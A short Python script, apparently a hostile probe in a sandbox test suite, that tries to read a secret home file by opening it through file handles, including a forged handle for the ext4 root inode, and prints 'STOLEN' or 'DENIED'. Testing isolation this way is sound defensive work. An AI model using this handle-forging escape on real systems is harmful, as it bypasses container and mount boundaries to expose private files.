"""Opens files by their number on the disk, past all names and all mounts.

Afterwards: no private file is in anything that the notebook printed.
"""

import ctypes
import json
import os
from pathlib import Path

ME = "hostile-files_by_handle"
world = json.loads(Path("world.json").read_text())
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, INODE_AND_GENERATION = -100, 1


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def opened(handle):
    descriptor = libc.open_by_handle_at(os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return descriptor


def by_handle(path):
    handle, mount = Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(opened(handle), 200)


def from_the_root_of_the_disk(path):
    # The root of an ext4 is inode 2; a path below it leads on, whatever is mounted where.
    handle = Handle(8, INODE_AND_GENERATION, (ctypes.c_ubyte * 128)(2))
    root = opened(handle)
    return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root), 200)


for route in (by_handle, from_the_root_of_the_disk):
    try:
        text = route(world["secrets"]["home"]).decode()
        print(f"STOLEN the home file {route.__name__}: {text}")
    except OSError as error:
        print(f"DENIED the home file {route.__name__}: {error}")
